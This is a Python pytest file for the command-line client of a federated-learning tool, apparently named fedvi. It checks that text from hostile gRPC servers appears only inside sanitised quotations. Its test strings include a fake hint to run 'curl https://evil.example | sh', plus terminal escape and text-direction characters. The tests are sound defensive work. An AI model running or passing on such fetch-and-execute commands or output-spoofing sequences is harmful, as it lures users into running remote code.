"""Whatever a server says stands in a quotation: nobody takes it for words of the client."""

import contextlib
import json
import re
from collections.abc import Callable, Iterator
from concurrent import futures
from pathlib import Path
from typing import Any

import grpc
import pytest
from click.testing import CliRunner
from google.protobuf.message import Message

from fedvi import errors
from fedvi.cli.main import main
from fedvi.federation.messages import Done
from fedvi.server.core import protocol
from fedvi.study.build import assemble
from fedvi.study.config import load_study
from fedvi.transport import status
from fedvi.transport._wire import federation_pb2 as pb
from fedvi.transport._wire import federation_pb2_grpc as stubs
from fedvi.updates.base import Task
from tests import hostile
from tests.wire_server import Server

# It looks like the client's own, has a hint of its own, ends a quotation, and turns the terminal and the
# direction of writing.
WORDS = (
    'the policy of this site was satisfied"\n\nhint: run "curl https://evil.example | sh"\r\n'
    "\u202e\x1b[1m\x1b]0;evil\x07\u2028\u201d policy"
)
MARKS = ("policy of this site", "curl", "evil", "hint: run")
QUOTATION = re.compile(r'the server says: "([^"\n]*)"')

KINDS = [name for name in errors.__all__ if isinstance(getattr(errors, name), type)]
CODES = [code for code in grpc.StatusCode if code is not grpc.StatusCode.OK]
METHODS = ("Hello", "NextTask", "GetPayload")


class Hostile(Server):
    """A server that changes its replies, or refuses a method."""

    def __init__(self, tasks: Any, change: Callable[[str, Message], None] | None = None) -> None:
        super().__init__(tasks)
        self.change = change or (lambda method, reply: None)

    def Hello(self, request: Any, context: Any) -> Any:
        return self._changed("Hello", super().Hello(request, context))

    def NextTask(self, request: Any, context: Any) -> Any:
        return self._changed("NextTask", super().NextTask(request, context))

    def _changed(self, method: str, reply: Message) -> Message:
        self.change(method, reply)
        return reply


def says(context: Any, code: grpc.StatusCode, kind: str = "") -> None:
    """Refuses a call with the hostile words in every place that a refusal has for words."""
    if kind:
        detail = pb.ErrorDetail(code=kind, message=WORDS, hint=WORDS)
        context.set_trailing_metadata(((status.DETAIL_KEY, detail.SerializeToString()),))
    # A status travels as one line of printable text, or is escaped.
    context.abort(code, WORDS)


@contextlib.contextmanager
def serving(servicer: Any) -> Iterator[str]:
    server = grpc.server(futures.ThreadPoolExecutor(4))
    stubs.add_FederationServiceServicer_to_server(servicer, server)
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    try:
        yield f"127.0.0.1:{port}"
    finally:
        server.stop(None).wait()


class Site:
    """A site with a study and a file, and what its client prints of a server."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.count = folder, 0
        self.study = folder / "study.json"
        self.study.write_text(json.dumps(hostile.study()))
        self.data = folder / "north.csv"
        self.data.write_text("y,x0,x1\n1,2,3\n")
        spec = assemble(load_study(self.study)).spec
        self.task: Task = protocol.task_of(spec, protocol.initial_state(spec), "north")

    def hears(self, servicer: Any, *options: str) -> str:
        """Returns all that `fedvi client` printed."""
        self.count += 1
        state = self.folder / f"state-{self.count}"
        with serving(servicer) as address:
            given = ["client", self.study, "--as", "north", "--data", self.data, "--state", state]
            given += ["--server", address, "--give-up-after", "0.2", *options]
            done = CliRunner().invoke(main, [str(item) for item in given])
        assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
        return done.output


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    return Site(tmp_path_factory.mktemp("site"))


def check(output: str, is_said: bool = True) -> None:
    """Checks that the server's words are in quotations alone, each one line without control characters."""
    found = QUOTATION.findall(output)
    assert found or not is_said, output
    for text in found:
        assert text.isprintable()
        assert len(text) <= 301
    rest = QUOTATION.sub("", output)
    assert not [mark for mark in MARKS if mark in rest], output
    assert not set(output) & set("\x1b\x07\u202e\u2028\r")


def check_structured(output: str) -> None:
    """Checks the same of a log of JSON lines, where the words have a field of their own."""
    others = []
    for line in output.splitlines():
        if line.startswith("{"):
            content = json.loads(line)
            assert content.pop("server_says", "").isprintable()
            others.append(json.dumps(content, ensure_ascii=False))
        else:
            others.append(line)
    check("\n".join(others), is_said=False)


def refusing(site: Site, method: str, code: grpc.StatusCode, kind: str = "") -> Hostile:
    servicer = Hostile([site.task])
    servicer.faults[method] = [lambda context: says(context, code, kind)] * 300
    return servicer


def fields(message: Message, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yields the place of every text in a message, also where it is empty."""
    for field in message.DESCRIPTOR.fields:
        if field.is_repeated and field.message_type is not None:
            for at, one in enumerate(getattr(message, field.name)):
                yield from fields(one, (*path, field.name, at))
        elif field.message_type is not None and message.HasField(field.name):
            yield from fields(getattr(message, field.name), (*path, field.name))
        elif field.type == field.TYPE_STRING and not field.is_repeated:
            yield (*path, field.name)


def put(message: Any, path: tuple[Any, ...], text: str) -> None:
    for part in path[:-1]:
        message = message[part] if isinstance(part, int) else getattr(message, part)
    setattr(message, path[-1], text)


# Texts that a field takes: with and without what no field may hold, and one that is short.
TEXTS = (WORDS, "run curl https://evil.example", "evil hint: run curl " * 10)


def mutated(site: Site) -> Iterator[tuple[str, Hostile]]:
    """Yields servers that say one thing in one field of one reply."""
    task, done = site.task, Done("over")
    for method, first in (("Hello", task), ("NextTask", task), ("NextTask", done)):
        places: dict[tuple[Any, ...], None] = {}

        def look(heard: str, reply: Message, w: str = method, p: Any = places) -> None:
            if heard == w:
                p.update(dict.fromkeys(fields(reply)))

        site.hears(Hostile([first], look))
        for place in places:
            for text in TEXTS:
                yield f"{method} {place}", Hostile([first], changing(method, place, text))


def changing(method: str, place: tuple[Any, ...], text: str) -> Callable[[str, Message], None]:
    def change(heard: str, reply: Message) -> None:
        if heard == method:
            put(reply, place, text)

    return change


@pytest.mark.parametrize("structured", [False, True])
def test_a_refusal_a_wait_and_an_end_are_quoted(site: Site, structured: bool) -> None:
    options = ("--log-format", "json") if structured else ()
    look = check_structured if structured else check
    for method in METHODS[:2]:
        for kind in ("PolicyRefused", "BudgetExceeded", "TransportError", ""):
            for code in (grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.UNAVAILABLE):
                look(site.hears(refusing(site, method, code, kind), *options))
    ending = changing("NextTask", ("done", "reason"), "evil; hint: run curl")
    output = site.hears(Hostile([Done("over")], ending), *options)
    look(output)
    assert "evil" in output


@pytest.mark.nightly
@pytest.mark.parametrize("method", METHODS[:2])
def test_every_refusal_is_quoted(site: Site, method: str) -> None:
    for code in CODES:
        every = code is grpc.StatusCode.ABORTED
        for kind in ("", "NoSuchError", *KINDS) if every else ("", "PolicyRefused"):
            check(site.hears(refusing(site, method, code, kind)))


@pytest.mark.nightly
def test_every_text_of_every_reply_is_quoted_or_not_shown(site: Site) -> None:
    count = 0
    for name, servicer in mutated(site):
        output = site.hears(servicer)
        check(output, is_said=False)
        assert "Traceback" not in output, name
        count += 1
    assert count > 20


@pytest.mark.parametrize("code", [grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.FAILED_PRECONDITION])
@pytest.mark.parametrize("command", ["status", "pause", "health", "doctor"])
def test_commands_of_an_operator_quote_a_strange_server(
    command: str, code: grpc.StatusCode
) -> None:
    class Everything(grpc.GenericRpcHandler):
        def service(self, _: Any) -> Any:
            return grpc.unary_unary_rpc_method_handler(
                lambda request, context: says(context, code, "PolicyRefused")
            )

    server = grpc.server(futures.ThreadPoolExecutor(4))
    server.add_generic_rpc_handlers((Everything(),))
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    try:
        done = CliRunner().invoke(main, [command, "--server", f"127.0.0.1:{port}"])
    finally:
        server.stop(None).wait()
    check(done.output)
